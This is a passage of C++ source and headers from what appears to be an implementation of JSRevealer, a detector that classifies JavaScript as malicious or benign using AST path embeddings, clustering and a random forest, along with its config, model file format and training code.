  /// Central path of surviving cluster `f` (the Table VII inverse index),
  /// as a view into the mapping.
  std::string_view central_path(std::size_t f) const {
    return {central_blob_ + central_offsets_[f],
            central_offsets_[f + 1] - central_offsets_[f]};
  }

 private:
  void attach(std::shared_ptr<const void> owner, const std::uint8_t* data,
              std::size_t size, bool verify_checksums);
  const std::uint8_t* section_payload(fmt::SectionId id,
                                      std::size_t* size_out) const;

  // Backing storage: the mapped file or the from_buffer copy. shared_ptr so
  // view copies keep the bytes alive (aliasing contract above).
  std::shared_ptr<const void> owner_;
  const std::uint8_t* data_ = nullptr;
  std::size_t size_ = 0;

  fmt::ArtifactHeader header_;
  std::vector<fmt::SectionRec> sections_;  // validated copy of the table

  // Borrowed views into the mapping (valid while owner_ lives).
  paths::PathVocabView vocab_;
  ml::AttentionParams attn_;
  ClusterParams cluster_;
  ml::ForestView forest_;
  const double* scaler_min_ = nullptr;
  const double* scaler_max_ = nullptr;
  const std::uint32_t* central_offsets_ = nullptr;
  const char* central_blob_ = nullptr;

  // Inference configuration reconstructed from the header.
  paths::PathConfig path_cfg_;
  js::ParseLimits parse_limits_;
  bool deobfuscate_ = false;
  std::size_t threads_ = 0;

  lint::Linter linter_;
};

}  // namespace jsrev::core
