// Malware family classification — the paper's stated future-work extension
// ("our future work will add a JavaScript malware family component").
//
// Reuses a trained JsRevealer's cluster-feature space: a multiclass random
// forest is trained over the feature vectors of the MALICIOUS training
// samples with their family labels. At inference the binary detector
// decides malicious/benign; this component names the family.
#pragma once

#include <map>
#include <string>
#include <vector>

#include "core/jsrevealer.h"
#include "ml/multiclass_forest.h"

namespace jsrev::core {

class FamilyClassifier {
 public:
  /// `threads` sets the parallel width for featurization and per-tree
  /// forest training (0 = hardware concurrency, 1 = serial); the trained
  /// model is bit-identical at any width.
  explicit FamilyClassifier(std::size_t threads = 1);

  /// Trains on the malicious subset of `corpus` using the feature space of
  /// an already-trained detector. Samples with empty family tags are
  /// skipped. Returns the number of training samples used.
  std::size_t train(const JsRevealer& detector, const dataset::Corpus& corpus);

  /// Predicts the family name of a (presumed malicious) script. Returns an
  /// empty string if the classifier was never trained.
  std::string classify(const JsRevealer& detector,
                       const std::string& source) const;

  /// Family names in label order.
  const std::vector<std::string>& families() const { return families_; }

  /// Top-1 accuracy over the malicious samples of a labeled corpus.
  double evaluate(const JsRevealer& detector,
                  const dataset::Corpus& corpus) const;

  /// Row-normalized confusion matrix (families x families) over the
  /// malicious samples of `corpus`.
  std::vector<std::vector<double>> confusion(
      const JsRevealer& detector, const dataset::Corpus& corpus) const;

 private:
  int label_of(const std::string& family) const {
    const auto it = label_.find(family);
    return it == label_.end() ? -1 : it->second;
  }

  std::map<std::string, int> label_;
  std::vector<std::string> families_;
  std::size_t threads_ = 1;
  ml::MulticlassRandomForest forest_;
  bool trained_ = false;
};

}  // namespace jsrev::core
