// Cluster-membership featurization shared by the heap-trained JsRevealer
// and the mmap-backed ModelView.
//
// ClusterParams is a borrowed view over the trained cluster geometry as flat
// arrays (centroid matrix, RMS radii, and the per-centroid benign-origin
// bitset in its packed u64 form). cluster_features() is the single
// implementation of paper Section III-D's attention-mass accumulation; both
// detector forms call it with pointers into their own storage, so heap and
// mapped feature vectors are bit-identical by construction.
#pragma once

#include <cstdint>
#include <vector>

#include "ml/attention_model.h"
#include "obs/provenance.h"

namespace jsrev::core {

/// Words needed to hold one bit per centroid.
inline std::size_t benign_word_count(std::size_t n_centroids) {
  return (n_centroids + 63) / 64;
}

/// Reads centroid `i`'s benign-origin bit from the packed word array.
inline bool benign_bit(const std::uint64_t* words, std::size_t i) {
  return ((words[i >> 6] >> (i & 63)) & 1ULL) != 0;
}

/// Sets centroid `i`'s benign-origin bit.
inline void set_benign_bit(std::uint64_t* words, std::size_t i, bool v) {
  if (v) {
    words[i >> 6] |= 1ULL << (i & 63);
  } else {
    words[i >> 6] &= ~(1ULL << (i & 63));
  }
}

/// Borrowed view of the trained cluster geometry.
struct ClusterParams {
  const double* centroids = nullptr;      // feature_dim x dim, row-major
  const double* radius = nullptr;         // feature_dim RMS radii
  const std::uint64_t* benign = nullptr;  // packed benign-origin bits
  std::uint32_t feature_dim = 0;
  std::uint32_t dim = 0;
  bool binary_features = false;  // ablation: occurrence instead of mass
};

/// Cluster-membership features (attention weight accumulated per surviving
/// cluster) for an embedded script, before scaling. Paths farther than four
/// RMS radii from every centroid count as outside all clusters. When `prov`
/// is non-null the per-cluster mass and the outside-path count land in it.
std::vector<double> cluster_features(const ClusterParams& p,
                                     const ml::EmbeddedScript& emb,
                                     obs::VerdictProvenance* prov = nullptr);

}  // namespace jsrev::core
