// JSRevealer: the paper's detector (path extraction → path embedding →
// feature extraction → classification), implementing detect::Detector so it
// slots into the same evaluation harness as the baselines.
#pragma once

#include <iosfwd>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

#include "baselines/detector.h"
#include "core/config.h"
#include "core/feature_ops.h"
#include "lint/linter.h"
#include "ml/attention_model.h"
#include "ml/kmeans.h"
#include "ml/outlier.h"
#include "ml/scaler.h"
#include "paths/vocab.h"
#include "util/timer.h"

namespace jsrev::core {

/// One row of the Table VII interpretability report.
struct FeatureReportEntry {
  int feature_index = 0;
  double importance = 0.0;
  bool from_benign = false;   // cluster learned from benign vs malicious set
  std::string central_path;   // representative path context of the center
};

/// Per-module timing aggregates for the Table VIII reproduction.
///
/// Per-item samples (TimingStats::add) are recorded as before; in addition
/// each parallel region records its wall-clock on the stage that dominates
/// it (TimingStats::add_wall), so total()/wall_ms() shows the effective
/// speedup at the `threads` width the pipeline ran with. The fused
/// parse+analysis+path-enumeration region books its wall on enhanced_ast.
///
/// The parse and the scope/data-flow augmentation are decoupled stages now
/// that parsing lives in the shared ScriptAnalysis artifact, so they are
/// sampled separately; parse.mean() + enhanced_ast.mean() equals the old
/// fused enhanced-AST figure.
struct StageTimings {
  TimingStats parse{"parse"};          // js::parse (lex + parse + finalize)
  TimingStats enhanced_ast{"enhanced_ast"};  // scope + data-flow augmentation
  TimingStats path_traversal{"path_traversal"};  // path-context enumeration
  TimingStats pretraining{"pretraining"};  // embedding training (per file)
  TimingStats embedding{"embedding"};  // per-file embedding at inference
  TimingStats outlier{"outlier"};      // outlier detection (train once)
  TimingStats clustering{"clustering"};  // bisecting k-means (train once)
  TimingStats classifier_train{"classifier_train"};
  TimingStats classifying{"classifying"};  // classifier predict per file
  std::size_t threads = 1;      // resolved parallel width used by train()

  /// Zeroes the per-script inference stages (parse, enhanced AST, path
  /// traversal, embedding, classifying — the train-once stages are kept).
  /// classify_all calls this on entry so each batch reports only its own
  /// work and wall time: without the reset, a re-evaluated warm corpus
  /// stacks fresh per-item samples onto stale wall totals and the apparent
  /// sum/wall speedup grows past the physical thread count.
  void reset_inference();
};

class JsRevealer final : public detect::Detector {
 public:
  explicit JsRevealer(Config cfg = {});

  void train(const dataset::Corpus& corpus) override;
  int classify(const std::string& source) const override;
  /// Classifies a pre-analyzed script, reusing its memoized AST and
  /// analyses (the string overload builds a private ScriptAnalysis and
  /// delegates here, so verdicts are identical).
  int classify(const analysis::ScriptAnalysis& analysis) const override;
  std::string name() const override { return "JSRevealer"; }

  /// Batch prediction: classifies every source, fanning out per script at
  /// the configured thread width. Verdicts are identical to calling
  /// classify() per source (featurization and the trained model are
  /// read-only at inference).
  std::vector<int> classify_all(const std::vector<std::string>& sources) const;
  /// Parse-once batch prediction over pre-built analyses.
  std::vector<int> classify_all(const analysis::AnalyzedCorpus& corpus) const;

  /// Batched evaluate (same metrics as the base implementation).
  ml::Metrics evaluate(const dataset::Corpus& corpus) const override;
  /// Batched evaluate over a shared AnalyzedCorpus: the detector performs
  /// no parse of its own for scripts whose analysis is already warm.
  ml::Metrics evaluate(const analysis::AnalyzedCorpus& corpus) const override;

  /// Width of featurize() output: surviving benign + malicious clusters,
  /// plus the lint summary tail when cfg.lint_features is on.
  std::size_t feature_count() const { return feature_dim_ + lint_dim_; }
  /// The lint tail's width (0 when cfg.lint_features is off).
  std::size_t lint_feature_count() const { return lint_dim_; }
  std::size_t clusters_removed() const { return clusters_removed_; }

  /// The outlier-detection method actually used (after selection, if
  /// cfg.run_outlier_selection is set).
  ml::OutlierMethod outlier_method() const { return outlier_method_; }

  /// The pipeline configuration this detector runs with (serving layers
  /// mirror its parse limits / deobfuscate flag into their own analyses).
  const Config& config() const { return cfg_; }

  /// Top-`n` features by random-forest importance, with their central paths
  /// (Table VII). Only valid after train() with the random-forest classifier.
  std::vector<FeatureReportEntry> feature_report(int n = 5) const;

  /// Classifies `source` with provenance capture on and returns the filled
  /// record: verdict, frontend outcome, path/vocabulary counts, per-cluster
  /// attention mass, lint rule hits, and per-stage durations. The JSON shape
  /// is obs::VerdictProvenance::to_json() (surfaced by `jsr_stats --explain`).
  obs::VerdictProvenance explain(const std::string& source) const;

  /// Feature vector for one script (exposed for tests/inspection). Parses
  /// exactly once even with lint features on: the string overload builds
  /// one ScriptAnalysis whose AST/scope/data-flow artifacts are shared by
  /// path extraction and the lint tail.
  std::vector<double> featurize(const std::string& source) const;
  std::vector<double> featurize(const analysis::ScriptAnalysis& analysis) const;

  const StageTimings& timings() const { return timings_; }

  /// SSE curve helper for the Fig. 5 elbow plot: clusters one class's path
  /// vectors (collected exactly as train() does) at each K in [k_lo, k_hi]
  /// and returns the SSE per K. `label` selects benign (0) / malicious (1).
  std::vector<double> sse_curve(const dataset::Corpus& corpus, int label,
                                int k_lo, int k_hi);

  /// Trained-model persistence (vocabulary, embedding model, clusters,
  /// scaler, and classifier — random-forest classifiers only). save()
  /// throws std::logic_error if untrained or using another classifier kind;
  /// load() replaces this detector's state entirely.
  void save(std::ostream& out) const;
  void load(std::istream& in);
  void save_file(const std::string& path) const;
  void load_file(const std::string& path);

  /// Legacy stream emit (v1 without lint features, v2 with): the exact
  /// pre-v3 byte layout, kept so the tolerant reader and the artifact
  /// conversion path stay covered by tests and `jsr_model convert`.
  void save_legacy(std::ostream& out) const;

  /// Serializes the trained model as a JSRM v3 artifact (core/model_format.h):
  /// page-aligned sections with per-section checksums, mappable read-only by
  /// core::ModelView. Bytes are deterministic for a deterministic model.
  /// Same preconditions as save().
  std::vector<std::uint8_t> save_artifact() const;
  void save_artifact_file(const std::string& path) const;

 private:
  struct ScriptFeatures {
    std::vector<std::int32_t> path_ids;
  };

  /// Extracts path contexts from a shared analysis (forcing its data-flow
  /// artifacts as needed); throws std::runtime_error on parse failure.
  std::vector<paths::PathContext> extract(
      const analysis::ScriptAnalysis& analysis, bool timed) const;

  std::vector<std::int32_t> to_ids(
      const std::vector<paths::PathContext>& pcs) const;

  /// Cluster-membership features (attention weight accumulated per cluster)
  /// for an embedded script, before scaling. When `prov` is non-null the
  /// per-cluster mass and the outside-every-cluster path count land in it.
  std::vector<double> features_from_embedding(
      const ml::EmbeddedScript& emb,
      obs::VerdictProvenance* prov = nullptr) const;

  /// Shared body of save()/save_legacy().
  void save_stream(std::ostream& out, bool legacy) const;

  Config cfg_;
  lint::Linter linter_;
  std::size_t lint_dim_ = 0;  // kLintFeatureDim when lint features are on
  paths::PathVocab vocab_;
  ml::AttentionModel model_;
  ml::Matrix centroids_;                // feature_dim_ x d (both classes)
  // Per-centroid benign-origin bits, packed 64 per word (feature_ops.h
  // helpers) — the exact words the v3 formats serialize.
  std::vector<std::uint64_t> centroid_benign_;
  std::vector<double> centroid_radius_; // RMS radius per centroid
  std::vector<std::string> central_path_;      // Table VII inverse index
  std::vector<double> centroid_nearest_d_;     // scratch: best dist so far
  std::size_t feature_dim_ = 0;
  std::size_t clusters_removed_ = 0;
  ml::OutlierMethod outlier_method_ = ml::OutlierMethod::kFastAbod;
  ml::MinMaxScaler scaler_;
  std::unique_ptr<ml::Classifier> classifier_;
  mutable StageTimings timings_;
  mutable std::mutex timing_mu_;
  bool trained_ = false;
};

}  // namespace jsrev::core
