// JSRM v3 model artifact: the on-disk layout of a trained JsRevealer as an
// immutable, mmap-able binary.
//
//   [ArtifactHeader][SectionRec x section_count][...payloads...]
//
// The header and the section table are fixed-width little-endian structs at
// offset 0; every payload starts on a kSectionAlign (4 KiB) boundary so a
// mapped file hands out naturally-aligned pointers for every element type
// the sections contain (doubles, u64 words, 32-byte node records). Gaps are
// zero-filled, which together with deterministic training makes the whole
// artifact byte-identical across runs and thread widths.
//
// Each SectionRec carries an FNV-1a64 checksum over its payload; loaders
// verify them before trusting any pointer, so a truncated or bit-flipped
// artifact surfaces as ser::ModelFormatError, never as a wild read.
//
// The layout (like the legacy stream format) stores native little-endian
// scalars; big-endian hosts are out of scope for the mapped path.
#pragma once

#include <cstdint>

namespace jsrev::core::fmt {

inline constexpr char kMagic[4] = {'J', 'S', 'R', 'M'};
inline constexpr std::uint32_t kFormatVersion = 3;
inline constexpr std::uint64_t kSectionAlign = 4096;

/// Header flag bits.
inline constexpr std::uint32_t kFlagUseDataflow = 1u << 0;
inline constexpr std::uint32_t kFlagDeobfuscate = 1u << 1;
inline constexpr std::uint32_t kFlagBinaryClusterFeatures = 1u << 2;

enum class SectionId : std::uint32_t {
  kVocabEntries = 1,        // VocabEntryRec[vocab_size]
  kVocabTable = 2,          // u32[vocab_table_size] open-addressing slots
  kVocabBlob = 3,           // concatenated "src|path|tgt" keys
  kAttentionW = 4,          // f64[vocab_size * embedding_dim]
  kAttentionA = 5,          // f64[embedding_dim]
  kAttentionU = 6,          // f64[2 * embedding_dim]
  kAttentionBias = 7,       // f64[2]
  kCentroids = 8,           // f64[feature_dim * embedding_dim]
  kCentroidRadius = 9,      // f64[feature_dim]
  kCentroidBenign = 10,     // u64[(feature_dim + 63) / 64] packed bits
  kCentralPathOffsets = 11, // u32[feature_dim + 1] prefix into the blob
  kCentralPathBlob = 12,    // concatenated central-path strings
  kScalerMin = 13,          // f64[feature_dim + lint_dim]
  kScalerMax = 14,          // f64[feature_dim + lint_dim]
  kForestOffsets = 15,      // u32[n_trees + 1] prefix into the node pool
  kForestNodes = 16,        // ForestNodeRec[offsets[n_trees]]
};

inline constexpr std::uint32_t kSectionCount = 16;

/// Human-readable section name (diagnostics, `jsr_model inspect`).
inline const char* section_name(SectionId id) {
  switch (id) {
    case SectionId::kVocabEntries: return "vocab.entries";
    case SectionId::kVocabTable: return "vocab.table";
    case SectionId::kVocabBlob: return "vocab.blob";
    case SectionId::kAttentionW: return "attention.w";
    case SectionId::kAttentionA: return "attention.a";
    case SectionId::kAttentionU: return "attention.u";
    case SectionId::kAttentionBias: return "attention.bias";
    case SectionId::kCentroids: return "clusters.centroids";
    case SectionId::kCentroidRadius: return "clusters.radius";
    case SectionId::kCentroidBenign: return "clusters.benign";
    case SectionId::kCentralPathOffsets: return "clusters.central_offsets";
    case SectionId::kCentralPathBlob: return "clusters.central_blob";
    case SectionId::kScalerMin: return "scaler.min";
    case SectionId::kScalerMax: return "scaler.max";
    case SectionId::kForestOffsets: return "forest.offsets";
    case SectionId::kForestNodes: return "forest.nodes";
  }
  return "unknown";
}

/// One section-table row (32 bytes, padding-free).
struct SectionRec {
  std::uint32_t id = 0;        // SectionId
  std::uint32_t reserved = 0;  // always zero
  std::uint64_t offset = 0;    // absolute, kSectionAlign-aligned
  std::uint64_t size = 0;      // payload bytes
  std::uint64_t checksum = 0;  // fnv1a64 over the payload bytes
};
static_assert(sizeof(SectionRec) == 32, "section record must be packed");

/// Fixed-width artifact header at file offset 0 (80 bytes, padding-free).
struct ArtifactHeader {
  char magic[4] = {0, 0, 0, 0};           // "JSRM"
  std::uint32_t version = kFormatVersion;
  std::uint64_t file_size = 0;            // total artifact bytes
  std::uint32_t section_count = 0;
  std::uint32_t flags = 0;                // kFlag* bits
  std::uint32_t embedding_dim = 0;
  std::uint32_t feature_dim = 0;          // surviving clusters (both classes)
  std::uint32_t lint_dim = 0;             // 0 = no lint feature tail
  std::uint32_t clusters_removed = 0;
  std::uint32_t vocab_size = 0;
  std::uint32_t vocab_table_size = 0;     // power of two (0 iff vocab empty)
  std::uint32_t n_trees = 0;
  std::uint32_t path_max_length = 0;
  std::uint32_t path_max_width = 0;
  std::uint32_t reserved0 = 0;
  std::uint64_t max_vocab = 0;
  std::uint64_t reserved1 = 0;
};
static_assert(sizeof(ArtifactHeader) == 80, "artifact header must be packed");

}  // namespace jsrev::core::fmt
