// JSRevealer pipeline configuration.
//
// Defaults are CPU-scaled versions of the paper's hyperparameters: the paper
// trains a d=300 embedding for 100 epochs on a GPU and clusters millions of
// path vectors; we default to d=64 / fewer epochs / subsampled clustering,
// which preserves every qualitative result while keeping bench runtimes in
// minutes. The paper's exact values can be restored by overriding fields.
#pragma once

#include <cstdint>

#include "js/parse_limits.h"
#include "ml/classifier.h"
#include "paths/path_extraction.h"

namespace jsrev::core {

struct Config {
  // Frontend resource guards (recursion depth, source bytes, token count).
  // Exceeding a limit surfaces as an ordinary parse failure, which the
  // unparseable ⇒ malicious convention then classifies — never a crash.
  js::ParseLimits parse_limits;

  // Path extraction (paper Section III-B; paper values 12/4).
  paths::PathConfig path;

  // Embedding (paper Section III-C; paper: d=300, 100 epochs, 5000 scripts).
  int embedding_dim = 96;
  int embed_epochs = 24;
  double learning_rate = 0.01;
  // Per-script path subsample used when TRAINING the embedding model (the
  // full path set is still used for feature extraction).
  std::size_t train_paths_per_script = 400;
  // Pre-training subset size (balanced); 0 = use the whole training corpus.
  std::size_t pretrain_scripts = 0;

  // Feature extraction (paper Section III-D).
  int k_benign = 11;     // bisecting k-means K on benign path vectors
  int k_malicious = 10;  // ... on malicious path vectors
  int outlier_k_neighbors = 10;
  double outlier_contamination = 0.10;
  // Vectors subsampled per class for outlier detection + clustering (the
  // paper clusters all vectors on a GPU box; FastABOD is O(n^2)).
  std::size_t cluster_sample_per_class = 3000;
  // Clusters from the benign and malicious sets whose centroids are closer
  // than `overlap_factor` x (mean intra-cluster RMS radius) are dropped.
  double overlap_factor = 0.15;
  // Run the MetaOD-substitute selector instead of hardwiring FastABOD.
  bool run_outlier_selection = false;

  // Classification (paper: random forest chosen in Table II).
  ml::ClassifierKind classifier = ml::ClassifierKind::kRandomForest;

  // Append the semantic lint summary vector (src/lint) to every feature
  // vector: [malice diags, hygiene diags, severity-weighted score, distinct
  // rules fired]. Off by default — the default pipeline (and its serialized
  // models) is bit-identical with and without the lint subsystem compiled in.
  bool lint_features = false;

  // Statically normalize every script through the src/deob fixpoint
  // pipeline (constant folding, string-array inlining, unflattening,
  // dead-code pruning, canonical renaming) before any analysis — training,
  // feature extraction, and classification all see the normalized form.
  // Off by default: the default pipeline stays bit-identical with the deob
  // subsystem compiled in but unused.
  bool deobfuscate = false;

  // Maximum vocabulary size; further paths are treated as unknown.
  std::size_t max_vocab = 200000;

  // Span tracing: when set, the JsRevealer constructor switches the global
  // obs::Tracer on, so every pipeline stage (and each per-script classify)
  // records a span exportable as a Chrome trace (obs/trace.h; view in
  // Perfetto / chrome://tracing). Off by default — a disabled tracer costs
  // one relaxed atomic load per would-be span.
  bool trace = false;

  // Parallel width for every per-item pipeline stage (path extraction,
  // FastABOD, k-means assignment, forest training, batch prediction).
  // 0 = hardware concurrency; 1 = the exact legacy serial path. Results are
  // bit-identical at any width: per-item randomness is index-derived and all
  // floating-point accumulation stays in index order.
  std::size_t threads = 0;

  // --- ablation switches (bench_ablation) ---------------------------------
  // Paper design: feature values accumulate path ATTENTION WEIGHTS. The
  // ablation uses binary cluster occurrence instead (the alternative the
  // paper explicitly argues against in Section III-D).
  bool binary_cluster_features = false;
  // Skip the outlier-removal stage entirely (cluster raw path vectors).
  bool skip_outlier_removal = false;

  std::uint64_t seed = 42;
};

}  // namespace jsrev::core
