#include "core/jsrevealer.h"

#include <algorithm>
#include <cmath>
#include <numeric>
#include <stdexcept>

#include "ml/decision_tree.h"
#include "obs/trace.h"
#include "util/rng.h"
#include "util/thread_pool.h"

namespace jsrev::core {

void StageTimings::reset_inference() {
  parse.reset();
  enhanced_ast.reset();
  path_traversal.reset();
  embedding.reset();
  classifying.reset();
}

JsRevealer::JsRevealer(Config cfg) : cfg_(cfg) {
  if (cfg_.trace) obs::Tracer::global().set_enabled(true);
  lint_dim_ = cfg_.lint_features ? lint::kLintFeatureDim : 0;
  ml::AttentionModelConfig mc;
  mc.embedding_dim = cfg_.embedding_dim;
  mc.epochs = cfg_.embed_epochs;
  mc.learning_rate = cfg_.learning_rate;
  mc.seed = cfg_.seed;
  model_ = ml::AttentionModel(mc);
  classifier_ = ml::make_classifier(cfg_.classifier, cfg_.seed, cfg_.threads);
}

std::vector<paths::PathContext> JsRevealer::extract(
    const analysis::ScriptAnalysis& analysis, bool timed) const {
  if (analysis.parse_failed()) {
    throw std::runtime_error(analysis.parse_error());
  }

  // Forcing dataflow() here is free when another consumer (lint, a second
  // detector) already materialized it on the shared artifact; the sampled
  // cost is then near zero, and the true cost was sampled by whoever forced
  // it first.
  Timer t1;
  const analysis::DataFlowInfo* flow =
      cfg_.path.use_dataflow ? &analysis.dataflow() : nullptr;
  const double ast_ms = t1.elapsed_ms();

  Timer t2;
  auto pcs = paths::extract_paths(analysis.root(), flow, cfg_.path);
  const double traverse_ms = t2.elapsed_ms();

  if (timed) {
    std::lock_guard<std::mutex> lock(timing_mu_);
    // take_parse_cost: the parse is booked by its first claimant only, so a
    // warm (already-parsed) analysis contributes a zero sample instead of
    // re-booking work that did not run in this batch.
    timings_.parse.add(analysis.take_parse_cost());
    timings_.enhanced_ast.add(ast_ms);
    timings_.path_traversal.add(traverse_ms);
  }
  if (obs::VerdictProvenance* prov = analysis.provenance()) {
    prov->stage_ms.parse = analysis.parse_ms();
    prov->stage_ms.enhanced_ast = ast_ms;
    prov->stage_ms.path_traversal = traverse_ms;
  }
  return pcs;
}

std::vector<std::int32_t> JsRevealer::to_ids(
    const std::vector<paths::PathContext>& pcs) const {
  std::vector<std::int32_t> ids;
  ids.reserve(pcs.size());
  for (const auto& pc : pcs) ids.push_back(vocab_.lookup(pc));
  return ids;
}

void JsRevealer::train(const dataset::Corpus& corpus) {
  obs::Span train_span("core.train", "core");
  Rng rng(cfg_.seed);
  timings_.threads = resolve_threads(cfg_.threads);

  // ---- Stage 1: path extraction over the training corpus (grows vocab) ---
  // Parse + enhanced-AST analysis + path enumeration fan out per file (the
  // per-module cost leaders of the paper's Table VIII); vocabulary interning
  // is order-dependent (ids assigned on first sight), so it stays serial in
  // sample order — ids are therefore identical at any thread count.
  //
  // Each sample's ScriptAnalysis is shared between path extraction and the
  // lint summary tail (stage 5 consumes the vectors computed here), so
  // training parses every script exactly once even with lint features on.
  const std::size_t n_samples = corpus.samples.size();
  std::vector<std::vector<paths::PathContext>> extracted(n_samples);
  std::vector<std::vector<double>> lint_vecs(n_samples);
  {
    obs::Span span("core.train.extract", "core");
    Timer t_wall;
    parallel_for_threads(cfg_.threads, n_samples, [&](std::size_t i) {
      const analysis::ScriptAnalysis a(corpus.samples[i].source,
                                       cfg_.parse_limits,
                                       cfg_.deobfuscate);
      try {
        extracted[i] = extract(a, /*timed=*/true);
      } catch (const std::exception&) {
        // unparseable training sample contributes nothing
      }
      if (lint_dim_ != 0) {
        lint_vecs[i] = lint::lint_feature_vector(linter_.lint(a));
      }
    });
    timings_.enhanced_ast.add_wall(t_wall.elapsed_ms());
  }

  std::vector<std::vector<std::int32_t>> script_ids(n_samples);
  std::vector<int> labels(n_samples);
  for (std::size_t i = 0; i < n_samples; ++i) {
    labels[i] = corpus.samples[i].label;
    auto& ids = script_ids[i];
    ids.reserve(extracted[i].size());
    for (const auto& pc : extracted[i]) {
      if (vocab_.size() < cfg_.max_vocab) {
        ids.push_back(vocab_.add(pc));
      } else {
        ids.push_back(vocab_.lookup(pc));
      }
    }
  }
  extracted.clear();
  extracted.shrink_to_fit();

  // ---- Stage 2: pre-train the embedding model -----------------------------
  // The paper pre-trains on 5,000 held-aside scripts; by default we use the
  // training corpus itself (cfg_.pretrain_scripts == 0), subsampling paths
  // per script for tractable epochs.
  {
    obs::Span span("core.train.pretrain", "core");
    Timer t;
    std::vector<ml::ScriptPaths> train_scripts;
    std::size_t budget = cfg_.pretrain_scripts == 0
                             ? corpus.samples.size()
                             : cfg_.pretrain_scripts;
    for (std::size_t i = 0; i < corpus.samples.size() && budget > 0; ++i) {
      if (script_ids[i].empty()) continue;
      --budget;
      ml::ScriptPaths sp;
      sp.label = labels[i];
      sp.path_ids = script_ids[i];
      if (sp.path_ids.size() > cfg_.train_paths_per_script) {
        rng.shuffle(sp.path_ids);
        sp.path_ids.resize(cfg_.train_paths_per_script);
      }
      train_scripts.push_back(std::move(sp));
    }
    model_.train(train_scripts, vocab_.size());
    const double total = t.elapsed_ms();
    if (!train_scripts.empty()) {
      // Table VIII reports pre-training time per file.
      timings_.pretraining.add(total /
                               static_cast<double>(train_scripts.size()));
    }
  }

  // ---- Stage 3: per-class vector sample, outlier removal, clustering ------
  auto build_class = [&](int label, ml::Matrix* inliers_out,
                         std::vector<std::int32_t>* inlier_ids_out) {
    // Sample (path id, weight) pairs across all scripts of the class.
    std::vector<std::int32_t> sampled_ids;
    for (std::size_t i = 0; i < corpus.samples.size(); ++i) {
      if (labels[i] != label) continue;
      for (const std::int32_t id : script_ids[i]) {
        if (id >= 0) sampled_ids.push_back(id);
      }
    }
    rng.shuffle(sampled_ids);
    if (sampled_ids.size() > cfg_.cluster_sample_per_class) {
      sampled_ids.resize(cfg_.cluster_sample_per_class);
    }

    const auto d = static_cast<std::size_t>(cfg_.embedding_dim);
    ml::Matrix vecs(sampled_ids.size(), d);
    parallel_for_threads(cfg_.threads, sampled_ids.size(), [&](std::size_t r) {
      const std::vector<double> e = model_.path_embedding(sampled_ids[r]);
      std::copy(e.begin(), e.end(), vecs.row(r));
    });

    // Outlier removal (FastABOD by default; optionally MetaOD-style pick;
    // skippable entirely for the ablation bench).
    Timer t_out;
    ml::OutlierConfig ocfg;
    ocfg.k_neighbors = cfg_.outlier_k_neighbors;
    ocfg.threads = cfg_.threads;
    ocfg.contamination = cfg_.skip_outlier_removal
                             ? 0.0
                             : cfg_.outlier_contamination;
    if (cfg_.run_outlier_selection && !cfg_.skip_outlier_removal) {
      outlier_method_ = ml::select_outlier_method(vecs, ocfg);
    }
    ml::OutlierResult out;
    if (cfg_.skip_outlier_removal) {
      out.scores.assign(vecs.rows(), 0.0);
      out.is_outlier.assign(vecs.rows(), false);
    } else {
      out = ml::run_outlier(outlier_method_, vecs, ocfg);
    }
    timings_.outlier.add(t_out.elapsed_ms());
    timings_.outlier.add_wall(t_out.elapsed_ms());

    std::size_t kept = 0;
    for (std::size_t r = 0; r < vecs.rows(); ++r) kept += !out.is_outlier[r];
    ml::Matrix inliers(kept, d);
    std::vector<std::int32_t> inlier_ids;
    inlier_ids.reserve(kept);
    std::size_t w = 0;
    for (std::size_t r = 0; r < vecs.rows(); ++r) {
      if (out.is_outlier[r]) continue;
      std::copy(vecs.row(r), vecs.row(r) + d, inliers.row(w));
      inlier_ids.push_back(sampled_ids[r]);
      ++w;
    }
    *inliers_out = std::move(inliers);
    *inlier_ids_out = std::move(inlier_ids);
  };

  ml::Matrix benign_vecs, malicious_vecs;
  std::vector<std::int32_t> benign_ids, malicious_ids;
  build_class(0, &benign_vecs, &benign_ids);
  build_class(1, &malicious_vecs, &malicious_ids);

  Timer t_cluster;
  ml::KMeansConfig kb;
  kb.k = cfg_.k_benign;
  kb.seed = rng();
  kb.threads = cfg_.threads;
  const ml::Clustering cb = ml::bisecting_kmeans(benign_vecs, kb);
  ml::KMeansConfig km;
  km.k = cfg_.k_malicious;
  km.seed = rng();
  km.threads = cfg_.threads;
  const ml::Clustering cm = ml::bisecting_kmeans(malicious_vecs, km);
  timings_.clustering.add(t_cluster.elapsed_ms());
  timings_.clustering.add_wall(t_cluster.elapsed_ms());

  // ---- Stage 4: overlap removal between the two cluster sets --------------
  const auto d = static_cast<std::size_t>(cfg_.embedding_dim);
  auto rms_radius = [&](const ml::Clustering& c, std::size_t idx) {
    return c.sizes[idx] > 0
               ? std::sqrt(c.cluster_sse[idx] /
                           static_cast<double>(c.sizes[idx]))
               : 0.0;
  };
  double mean_radius = 0.0;
  for (std::size_t i = 0; i < cb.centroids.rows(); ++i) {
    mean_radius += rms_radius(cb, i);
  }
  for (std::size_t i = 0; i < cm.centroids.rows(); ++i) {
    mean_radius += rms_radius(cm, i);
  }
  mean_radius /= static_cast<double>(cb.centroids.rows() +
                                     cm.centroids.rows());
  const double overlap_dist = cfg_.overlap_factor * mean_radius;

  std::vector<bool> drop_b(cb.centroids.rows(), false);
  std::vector<bool> drop_m(cm.centroids.rows(), false);
  for (std::size_t i = 0; i < cb.centroids.rows(); ++i) {
    for (std::size_t j = 0; j < cm.centroids.rows(); ++j) {
      const double dist = std::sqrt(ml::squared_distance(
          cb.centroids.row(i), cm.centroids.row(j), d));
      if (dist < overlap_dist) {
        drop_b[i] = true;
        drop_m[j] = true;
      }
    }
  }
  clusters_removed_ = 0;
  for (const bool b : drop_b) clusters_removed_ += b;
  for (const bool m : drop_m) clusters_removed_ += m;

  feature_dim_ = cb.centroids.rows() + cm.centroids.rows() -
                 clusters_removed_;
  centroids_ = ml::Matrix(feature_dim_, d);
  centroid_benign_.assign(benign_word_count(feature_dim_), 0);
  centroid_radius_.assign(feature_dim_, 0.0);
  std::size_t row = 0;
  for (std::size_t i = 0; i < cb.centroids.rows(); ++i) {
    if (drop_b[i]) continue;
    std::copy(cb.centroids.row(i), cb.centroids.row(i) + d,
              centroids_.row(row));
    set_benign_bit(centroid_benign_.data(), row, true);
    centroid_radius_[row] = rms_radius(cb, i);
    ++row;
  }
  for (std::size_t j = 0; j < cm.centroids.rows(); ++j) {
    if (drop_m[j]) continue;
    std::copy(cm.centroids.row(j), cm.centroids.row(j) + d,
              centroids_.row(row));
